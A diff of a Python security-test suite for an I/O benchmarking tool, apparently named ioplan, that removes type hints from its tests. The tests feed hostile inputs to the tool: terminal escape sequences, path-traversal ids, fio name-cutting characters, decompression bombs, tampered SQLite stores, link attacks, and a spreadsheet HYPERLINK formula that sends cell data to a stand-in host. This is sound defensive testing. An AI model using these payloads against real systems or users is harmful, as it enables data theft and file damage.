@@ -94,9 +94,7 @@ class OneSession:
     st.sampled_from(["ok", "failed"]),
 )
 @pytest.mark.promise("security.terminal")
-def test_no_title_reaches_the_terminal_as_more_than_text(
-    title: str, said: str, axis: str, status: str
-) -> None:
+def test_no_title_reaches_the_terminal_as_more_than_text(title, said, axis, status):
     out = io.StringIO()
     console = Terminal(file=out, force_terminal=True, width=80, color_system="standard")
     made = record(
@@ -115,15 +113,15 @@ def test_no_title_reaches_the_terminal_as_more_than_text(
     store = OneSession(said)
     show_records(
         console, store, store.session(made.session), [made, other], tables=True
-    )  # type: ignore[arg-type]
+    )
     assert steers(out.getvalue()) == []
 
 
-def test_a_title_cannot_forge_a_line_or_markup() -> None:
+def test_a_title_cannot_forge_a_line_or_markup():
     out = io.StringIO()
     show_records(
         Terminal(file=out, width=80),
-        OneSession(),  # type: ignore[arg-type]
+        OneSession(),
         session(),
         [record(1, test="a [red]b[/red] [/c]\nheld: expect p99 < 1us", cell={})],
         tables=True,
@@ -137,7 +135,7 @@ MOVES = re.compile(r"\x1b\[(?:\d*[AK]|\?25[lh]|[\d;]*m)|\r")
 
 
 @pytest.fixture(scope="module")
-def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
+def hostile(tmp_path_factory) -> Path:
     """A store that somebody passed on, with something evil in all of its texts."""
     folder = tmp_path_factory.mktemp("hostile")
     title = EVIL.replace("\r\n", "")
@@ -183,9 +181,7 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
     ids=" ".join,
 )
 @pytest.mark.promise("security.terminal")
-def test_nothing_steers_a_terminal(
-    hostile: Path, tmp_path: Path, words: tuple[str, ...]
-) -> None:
+def test_nothing_steers_a_terminal(hostile, tmp_path, words):
     kept = tmp_path / "s.db" if words[0] == "run" else hostile
     store = () if words[0] in ("check", "plan") else ("--store", kept)
     sent = on_a_terminal(*words, *store, cwd=hostile.parent)
@@ -195,7 +191,7 @@ def test_nothing_steers_a_terminal(
     assert "Traceback" not in sent and "ioplan itself" not in sent
 
 
-def test_into_a_file_data_goes_as_it_is(hostile: Path, tmp_path: Path) -> None:
+def test_into_a_file_data_goes_as_it_is(hostile, tmp_path):
     done = ioplan("show", "--plan", "--store", hostile)
     assert done.out == (hostile.parent / "plan.ioplan").read_text()
     assert steers(done.out)
@@ -204,7 +200,7 @@ def test_into_a_file_data_goes_as_it_is(hostile: Path, tmp_path: Path) -> None:
 @pytest.mark.slow
 @pytest.mark.parametrize("word", ["a\x1b[2J.ioplan", "a\nb", "a\udcff", "\u202egpj"])
 @pytest.mark.promise("security.terminal")
-def test_an_argument_that_cannot_be_shown_is_refused(word: str) -> None:
+def test_an_argument_that_cannot_be_shown_is_refused(word):
     sent = on_a_terminal("check", word, cwd=Path("/"))
     assert "has characters that cannot be shown" in sent and "exit code 2" in sent
     assert steers(MOVES.sub("", sent)) == []
@@ -227,7 +223,7 @@ FORBIDDEN = re.compile(
 
 @pytest.mark.long
 @pytest.mark.promise("security.no_command")
-def test_there_is_no_shell_in_it() -> None:
+def test_there_is_no_shell_in_it():
     assert len(SOURCES) > 200
     for path, (name, call) in ((p, found) for p in SOURCES for found in calls(p)):
         assert not FORBIDDEN.fullmatch(name), f"{path}: {name}"
@@ -241,7 +237,7 @@ PRINTS = re.compile(
 )
 
 
-def test_only_one_file_opens_the_terminal() -> None:
+def test_only_one_file_opens_the_terminal():
     display = ROOT / "dsl/ioplan/cli/display"
     doors = {display / "output.py", display / "terminal.py"}
     found = [
@@ -267,9 +263,7 @@ NAMES = [
 @pytest.mark.slow
 @pytest.mark.long
 @pytest.mark.promise("security.no_command")
-def test_a_run_writes_nothing_but_its_own_files(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_a_run_writes_nothing_but_its_own_files(tmp_path, monkeypatch):
     """With fio, which keeps a job file, in a folder where `owned` would show."""
     work = tmp_path / "work"
     work.mkdir()
@@ -300,7 +294,7 @@ def job_with(names: list[str], target: str = "/data/t.bin") -> Job:
 
 @pytest.mark.long
 @given(st.lists(st.text(), min_size=1, max_size=3))
-def test_stream_names_stay_within_their_line(names: list[str]) -> None:
+def test_stream_names_stay_within_their_line(names):
     """A job file has a section for each stream, and no line that a name brought."""
     text = job_file(job_with(names), Settings())
     plain = job_file(job_with(["plain"] * len(names)), Settings())
@@ -312,7 +306,7 @@ def test_stream_names_stay_within_their_line(names: list[str]) -> None:
 
 
 @given(st.text(min_size=1))
-def test_a_target_s_name_stays_within_its_line(name: str) -> None:
+def test_a_target_s_name_stays_within_its_line(name):
     """Or is refused: fio would cut it, expand it, or take it for another line."""
     target = f"/data/{name}"
     try:
@@ -328,7 +322,7 @@ def test_a_target_s_name_stays_within_its_line(name: str) -> None:
 @NEEDS_FIO
 @pytest.mark.slow
 @pytest.mark.parametrize("cut", [";", "#"])
-def test_fio_never_writes_to_what_is_left_of_a_name(tmp_path: Path, cut: str) -> None:
+def test_fio_never_writes_to_what_is_left_of_a_name(tmp_path, cut):
     """fio ends a name where a comment begins, and would write to the other file."""
     thesis = tmp_path / "thesis"
     thesis.write_bytes(b"precious" * 4096)
@@ -340,12 +334,12 @@ def test_fio_never_writes_to_what_is_left_of_a_name(tmp_path: Path, cut: str) ->
 
 
 @pytest.mark.parametrize("path", [5, ["fio"], {"a": 1}, True])
-def test_a_program_is_named_by_a_text(path: object) -> None:
+def test_a_program_is_named_by_a_text(path):
     with pytest.raises(BackendError, match="is a program's name"):
         settings_of({"path": path})
 
 
-def test_a_program_s_name_is_no_command_line(tmp_path: Path) -> None:
+def test_a_program_s_name_is_no_command_line(tmp_path):
     plan = plan_file(tmp_path, READS.format("x"))
     words = ("run", plan, "--backend", "fio", "--store", tmp_path / "s.db")
     owned = tmp_path / "owned"
@@ -366,7 +360,7 @@ def test_a_program_s_name_is_no_command_line(tmp_path: Path) -> None:
     ],
 )
 @pytest.mark.promise("security.use")
-def test_use_stays_below_the_plan(tmp_path: Path, text: str) -> None:
+def test_use_stays_below_the_plan(tmp_path, text):
     secret = tmp_path / "secret.ioplan"
     secret.write_text("workload hidden = random 4KiB 100/0\n")
     home = tmp_path / "home"
@@ -388,7 +382,7 @@ def test_use_stays_below_the_plan(tmp_path: Path, text: str) -> None:
 
 
 @pytest.mark.promise("security.use")
-def test_a_huge_file_is_not_read(tmp_path: Path) -> None:
+def test_a_huge_file_is_not_read(tmp_path):
     sparse(tmp_path / "big.ioplan", 1 << 40)
     plan = plan_file(tmp_path, 'use "big.ioplan"\n' + READS.format("x"))
     refuse("is larger than 4 MiB", "check", plan)
@@ -399,7 +393,7 @@ def test_a_huge_file_is_not_read(tmp_path: Path) -> None:
 
 
 @pytest.mark.promise("security.store")
-def test_a_session_s_id_is_no_path() -> None:
+def test_a_session_s_id_is_no_path():
     names = ("../../etc", "/etc", "a/b", ".", "..", "-rf", "", "a\0b", "a\n", "x" * 65)
     for id in names:
         with pytest.raises(ValueError, match="id"):
@@ -460,9 +454,7 @@ def changed(hostile: Path, folder: Path, *statements: str) -> Path:
     ],
 )
 @pytest.mark.promise("security.store")
-def test_a_store_that_ioplan_did_not_write_so_is_refused(
-    hostile: Path, tmp_path: Path, statement: str
-) -> None:
+def test_a_store_that_ioplan_did_not_write_so_is_refused(hostile, tmp_path, statement):
     path = changed(hostile, tmp_path, "PRAGMA foreign_keys = OFF", statement)
     done = ioplan("show", "--store", path)
     assert done.code == 2, done.out
@@ -471,9 +463,7 @@ def test_a_store_that_ioplan_did_not_write_so_is_refused(
 
 
 @pytest.mark.parametrize("path", ["{", "[" * 120_000, '{"a": 1}', "7"])
-def test_nor_are_its_states_and_events(
-    hostile: Path, tmp_path: Path, path: str
-) -> None:
+def test_nor_are_its_states_and_events(hostile, tmp_path, path):
     state = f"INSERT INTO target_state VALUES ('t', '{path}', 'n', '{{}}', 's', 'now')"
     event = f"INSERT INTO event SELECT id, 1, 'now', '{path}', 'text' FROM session"
     with Store.open(changed(hostile, tmp_path, state, event)) as store:
@@ -484,9 +474,7 @@ def test_nor_are_its_states_and_events(
 
 
 @pytest.mark.slow
-def test_a_stored_plan_reads_no_files_of_the_reader_s(
-    hostile: Path, tmp_path: Path
-) -> None:
+def test_a_stored_plan_reads_no_files_of_the_reader_s(hostile, tmp_path):
     """It names a folder and a file there; here one that blocks for ever."""
     os.mkfifo(tmp_path / "pipe")
     (tmp_path / "own.ioplan").write_text("workload hidden = random 4KiB 100/0\n")
@@ -502,7 +490,7 @@ def test_a_stored_plan_reads_no_files_of_the_reader_s(
         path.unlink()
 
 
-def test_a_stored_plan_uses_what_is_stored_with_it(tmp_path: Path) -> None:
+def test_a_stored_plan_uses_what_is_stored_with_it(tmp_path):
     library = "workload hidden = random 4KiB 100/0\n"
     text = 'use "own.ioplan"\ntest "T" { run hidden for 1s }\n'
     for name, content in (("own", library), ("plan", text)):
@@ -522,14 +510,14 @@ def with_files(session: Session, files: dict[str, str]) -> Session:
     return session.model_copy(update={"resolved": Resolved(files=files)})
 
 
-def test_a_trigger_in_a_store_calls_nothing(hostile: Path, tmp_path: Path) -> None:
+def test_a_trigger_in_a_store_calls_nothing(hostile, tmp_path):
     """SQLite would let a schema call what reads files, where that is built in."""
     with Store.open(changed(hostile, tmp_path)) as store, store.reading() as connection:
         assert connection.rows("PRAGMA trusted_schema") == [{"trusted_schema": 0}]
 
 
 @given(st.binary(max_size=200), st.binary(max_size=60))
-def test_stored_bytes_are_only_ever_damaged(raw: bytes, body: bytes) -> None:
+def test_stored_bytes_are_only_ever_damaged(raw, body):
     packed = b"\x01" + zlib.compress(raw)
     for blob in (raw, packed, b"\x01" + body):
         for decode in (decode_histograms, decode_series):
@@ -537,7 +525,7 @@ def test_stored_bytes_are_only_ever_damaged(raw: bytes, body: bytes) -> None:
                 decode(blob)
 
 
-def test_a_bomb_is_not_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_bomb_is_not_unpacked(monkeypatch):
     monkeypatch.setattr("ioplan.results.store.codec.MAX_BYTES", 1 << 20)
     bomb = b"\x01" + zlib.compress(bytes(64 << 20))
     with pytest.raises(CodecError, match="has more than 1 MiB"):
@@ -545,7 +533,7 @@ def test_a_bomb_is_not_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
 
 
 @pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
-def test_a_spreadsheet_calculates_nothing(tmp_path: Path, lead: str) -> None:
+def test_a_spreadsheet_calculates_nothing(tmp_path, lead):
     evil = lead + 'HYPERLINK("https://x?"&A1)'
     out = io.BytesIO()
     with Store.open(tmp_path / "s.db") as store:
@@ -566,7 +554,7 @@ def test_a_spreadsheet_calculates_nothing(tmp_path: Path, lead: str) -> None:
 
 
 @pytest.fixture
-def own_key(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+def own_key(tmp_path, monkeypatch) -> Path:
     monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
     return tmp_path / "state" / "ioplan" / "key"
 
@@ -578,7 +566,7 @@ def begun() -> Session:
     return signed(session("s1", request=asked, resolved=known, backend="fio"))
 
 
-def test_a_signature_holds_for_what_was_signed(own_key: Path) -> None:
+def test_a_signature_holds_for_what_was_signed(own_key):
     made = begun()
     assert is_signed(made)
     assert is_signed(Session.model_validate_json(made.model_dump_json()))
@@ -598,9 +586,7 @@ OTHER_RESULTS = [{"signature": "x"}] + [
 
 
 @pytest.mark.parametrize("none", ["", "uninitialized\n", None])
-def test_a_seal_holds_on_its_own_host(
-    own_key: Path, tmp_path: Path, none: str | None, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_a_seal_holds_on_its_own_host(own_key, tmp_path, none, monkeypatch):
     """The key may lie on a network's file system."""
     machine = tmp_path / "machine-id"
     monkeypatch.setattr("ioplan.runner.session.signature.MACHINE_ID", machine)
@@ -620,7 +606,7 @@ def test_a_seal_holds_on_its_own_host(
     assert not is_signed(made)
 
 
-def test_a_stranger_s_seal_is_none(own_key: Path) -> None:
+def test_a_stranger_s_seal_is_none(own_key):
     made = begun()
     assert own_key.stat().st_mode & 0o777 == 0o600
     assert [p.name for p in own_key.parent.iterdir()] == ["key"]
@@ -631,7 +617,7 @@ def test_a_stranger_s_seal_is_none(own_key: Path) -> None:
 # folders of many
 
 
-def test_a_session_s_folder_is_private(tmp_path: Path) -> None:
+def test_a_session_s_folder_is_private(tmp_path):
     folder = tmp_path / "sessions" / "s1"
     make_private(folder)
     make_private(folder)
@@ -639,9 +625,7 @@ def test_a_session_s_folder_is_private(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize("which", ["link", "open", "inner link"])
-def test_a_session_s_folder_that_others_made_is_refused(
-    tmp_path: Path, which: str
-) -> None:
+def test_a_session_s_folder_that_others_made_is_refused(tmp_path, which):
     sessions, elsewhere = tmp_path / "sessions", tmp_path / "elsewhere"
     elsewhere.mkdir()
     if which == "link":
@@ -657,7 +641,7 @@ def test_a_session_s_folder_that_others_made_is_refused(
 
 
 @needs_root
-def test_a_session_s_folder_of_somebody_else_is_refused(tmp_path: Path) -> None:
+def test_a_session_s_folder_of_somebody_else_is_refused(tmp_path):
     (tmp_path / "sessions").mkdir(mode=0o700)
     os.chown(tmp_path / "sessions", 65534, 65534)
     with pytest.raises(PermissionError, match="a folder of your own"):
@@ -665,7 +649,7 @@ def test_a_session_s_folder_of_somebody_else_is_refused(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize("how", ["symlink", "hard link"])
-def test_a_scratch_file_goes_through_no_link(tmp_path: Path, how: str) -> None:
+def test_a_scratch_file_goes_through_no_link(tmp_path, how):
     """In a folder of many, somebody may have put a link where it is to be."""
     precious = tmp_path / "precious"
     precious.write_bytes(b"x" * 4096)
